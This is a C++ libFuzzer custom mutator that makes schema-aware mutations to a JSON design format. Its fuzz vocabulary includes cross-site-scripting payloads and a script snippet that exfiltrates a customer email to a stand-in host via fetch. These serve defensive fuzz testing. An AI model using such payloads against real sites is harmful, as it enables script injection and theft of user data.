// The design fuzzer's mutator. Byte mutations of a JSON design mostly break its syntax or
// its schema, so the loader refuses it before the review and the writers see it. Most of
// the time this one parses the input, changes one thing in the tree (a value, a key, an
// item, a whole subtree) with the words of the design schema and writes it back: the result
// is still JSON and mostly still a design. The rest of the time, and for input that is no
// JSON, libFuzzer's own byte mutations run (with the dictionary), so the syntax layer stays
// fuzzed too.
#include "io/SchemaValidator.h"

#include <nlohmann/json.hpp>

#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <random>
#include <set>
#include <string>
#include <vector>

extern "C" size_t LLVMFuzzerMutate(uint8_t *data, size_t size, size_t maxSize);

namespace {

using json = nlohmann::json;

// Nodes deeper than this are dropped when parsing: the tree is walked and copied recursively.
constexpr int kMaxDepth = 40;
constexpr size_t kMaxNodes = 20000;

// Keys and values a design can hold, taken from the schema so they follow it.
struct Vocabulary
{
    std::vector<std::string> keys;
    std::vector<json> values;
};

void collectWords(const json &schema, std::set<std::string> &keys, std::vector<json> &values)
{
    if (schema.is_object()) {
        if (schema.contains("properties") && schema.at("properties").is_object())
            for (const auto &member : schema.at("properties").items())
                keys.insert(member.key());
        if (schema.contains("enum") && schema.at("enum").is_array())
            for (const auto &value : schema.at("enum"))
                values.push_back(value);
        if (schema.contains("const"))
            values.push_back(schema.at("const"));
    }
    if (schema.is_structured())
        for (const auto &child : schema)
            collectWords(child, keys, values);
}

const Vocabulary &vocabulary()
{
    static const Vocabulary words = [] {
        std::set<std::string> keys;
        Vocabulary v;
        collectWords(callstudio::designSchema(), keys, v.values);
        v.keys.assign(keys.begin(), keys.end());
        // Boundaries and the strings the review and the writers treat specially.
        for (const char *text : {"0",
                                 "-1",
                                 "1",
                                 "3",
                                 "240",
                                 "640",
                                 "2147483648",
                                 "9223372036854775807",
                                 "-9223372036854775808",
                                 "18446744073709551615",
                                 "1e308",
                                 "0.5",
                                 "true",
                                 "false",
                                 "null",
                                 "{}",
                                 "[]",
                                 "\"\"",
                                 "\"en\"",
                                 "\"pt-BR\"",
                                 "\"09:00\"",
                                 "\"24:00\"",
                                 "\"2026-02-29\"",
                                 "\"#1a73e8\"",
                                 "\"#fff\"",
                                 "\"https://example.com/a?b=c\"",
                                 "\"tel:+15551234567\"",
                                 "\"javascript:alert(1)\"",
                                 "\"data:text/html,x\"",
                                 "\"</script><!--\"",
                                 "\"<script src=https://cdn.example/x.js></script>\"",
                                 "\"<img src=x onerror=alert(1)>\"",
                                 "\"c2c.on('call_ended', function (e) { fetch('https://t.example/?' + e.email); });\"",
                                 "\"{{customer.email}}\"",
                                 "\"G-XXXXXXX\"",
                                 "\"\\u2028\\u0000\\u001b[31m\"",
                                 "\"Europe/Berlin\""})
            v.values.push_back(json::parse(text));
        return v;
    }();
    return words;
}

struct Node
{
    json *value = nullptr;
    json *parent = nullptr;
    std::string key;  // in an object parent
    size_t index = 0; // in an array parent
};

std::vector<Node> collectNodes(json &root)
{
    std::vector<Node> nodes{{&root, nullptr, {}, 0}};
    for (size_t i = 0; i < nodes.size() && nodes.size() < kMaxNodes; ++i) {
        json *value = nodes[i].value;
        if (value->is_object())
            for (auto it = value->begin(); it != value->end(); ++it)
                nodes.push_back({&it.value(), value, it.key(), 0});
        else if (value->is_array())
            for (size_t k = 0; k < value->size(); ++k)
                nodes.push_back({&(*value)[k], value, {}, k});
    }
    return nodes;
}

class Mutation
{
public:
    Mutation(json &root, unsigned seed)
        : m_nodes(collectNodes(root))
        , m_random(seed)
    {
    }

    void apply()
    {
        Node &node = pick(m_nodes);
        switch (below(8)) {
        case 0:
            *node.value = pick(vocabulary().values);
            break;
        case 1:
            mutateScalar(*node.value);
            break;
        case 2:
            erase(node);
            break;
        case 3:
            splice(node);
            break;
        case 4:
            insertCopy(node);
            break;
        case 5:
            renameKey(node);
            break;
        case 6:
            addMember(node);
            break;
        default:
            mutateScalar(*pick(m_nodes).value);
            break;
        }
    }

private:
    size_t below(size_t n) { return std::uniform_int_distribution<size_t>(0, n - 1)(m_random); }

    template <typename T> T &pick(std::vector<T> &from) { return from[below(from.size())]; }
    template <typename T> const T &pick(const std::vector<T> &from) { return from[below(from.size())]; }

    void mutateScalar(json &value)
    {
        if (value.is_string()) {
            std::string text = value.get<std::string>();
            const size_t room = text.size() * 2 + 16;
            text.resize(room);
            text.resize(
                LLVMFuzzerMutate(reinterpret_cast<uint8_t *>(text.data()), value.get<std::string>().size(), room));
            value = text;
        } else if (value.is_number_integer()) {
            // Unsigned arithmetic: wrapping around is the point, and no undefined behaviour.
            const auto n = static_cast<std::uint64_t>(value.get<std::int64_t>());
            const std::uint64_t changed[] = {n + 1, n - 1, 0 - n, n >> 1, n * 2 + 1};
            value = static_cast<std::int64_t>(changed[below(5)]);
        } else if (value.is_number_float()) {
            value = value.get<double>() * (below(2) ? -1.5 : 1e10);
        } else if (value.is_boolean()) {
            value = !value.get<bool>();
        } else {
            value = pick(vocabulary().values);
        }
    }

    // Another subtree of the document in place of this one.
    void splice(const Node &node)
    {
        json copy = *pick(m_nodes).value;
        *node.value = std::move(copy);
    }

    void erase(const Node &node)
    {
        if (node.parent && node.parent->is_object())
            node.parent->erase(node.key);
        else if (node.parent && node.parent->is_array())
            node.parent->erase(node.index);
    }

    // Another item like this one (a second block, field, locale): lists grow and repeat.
    void insertCopy(const Node &node)
    {
        if (node.parent && node.parent->is_array()) {
            json copy = *node.value;
            node.parent->insert(node.parent->begin() + static_cast<long>(below(node.parent->size() + 1)),
                                std::move(copy));
        } else if (node.value->is_array() && !node.value->empty()) {
            json copy = (*node.value)[below(node.value->size())];
            node.value->push_back(std::move(copy));
        }
    }

    void renameKey(const Node &node)
    {
        if (!node.parent || !node.parent->is_object())
            return;
        json moved = std::move(*node.value);
        node.parent->erase(node.key);
        (*node.parent)[pick(vocabulary().keys)] = std::move(moved);
    }

    void addMember(const Node &node)
    {
        if (node.value->is_object()) {
            json member = below(2) ? pick(vocabulary().values) : json(*pick(m_nodes).value);
            (*node.value)[pick(vocabulary().keys)] = std::move(member);
        } else if (node.value->is_array())
            node.value->push_back(pick(vocabulary().values));
    }

    std::vector<Node> m_nodes;
    std::mt19937 m_random;
};

// The input as a tree, nodes past kMaxDepth dropped; discarded when it is no JSON.
json parseShallow(const uint8_t *data, size_t size)
{
    const json::parser_callback_t shallow = [](int depth, json::parse_event_t, json &) { return depth <= kMaxDepth; };
    return json::parse(data, data + size, shallow, false);
}

} // namespace

extern "C" size_t LLVMFuzzerCustomMutator(uint8_t *data, size_t size, size_t maxSize, unsigned int seed)
{
    // One in five mutations works on bytes: JSON syntax, encodings and the file layer.
    // CALLSTUDIO_FUZZ_BYTES_ONLY=1 makes all of them byte mutations, to compare the two.
    static const bool bytesOnly = std::getenv("CALLSTUDIO_FUZZ_BYTES_ONLY") != nullptr;
    if (bytesOnly || seed % 5 == 0)
        return LLVMFuzzerMutate(data, size, maxSize);
    json root = parseShallow(data, size);
    if (root.is_discarded())
        return LLVMFuzzerMutate(data, size, maxSize);
    // Each step walks the tree afresh: the one before may have moved or dropped nodes.
    for (unsigned step = 0; step <= seed % 3; ++step)
        Mutation(root, seed + step).apply();
    const std::string text = root.dump(seed % 2 ? 2 : -1, ' ', false, json::error_handler_t::replace);
    if (text.size() > maxSize)
        return LLVMFuzzerMutate(data, size, maxSize);
    std::memcpy(data, text.data(), text.size());
    return text.size();
}
